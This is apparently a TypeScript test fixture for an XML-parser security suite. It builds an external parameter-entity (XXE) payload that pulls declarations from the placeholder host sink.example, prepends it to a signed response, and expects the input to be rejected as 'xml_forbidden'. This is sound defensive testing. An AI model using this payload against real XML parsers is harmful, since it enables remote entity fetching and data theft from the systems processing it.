import type { Attack } from '../../support/attack.ts'

export const attack: Attack = {
  misdeed: 'a parameter entity fetches further declarations, which needs no reference in the document at all',
  code: 'xml_forbidden',
  forge: ({ response }) => {
    const signed = response()
    return { evil: `<!DOCTYPE r [<!ENTITY % far SYSTEM "http://sink.example/far"> %far;]>${signed}`, control: signed }
  },
}
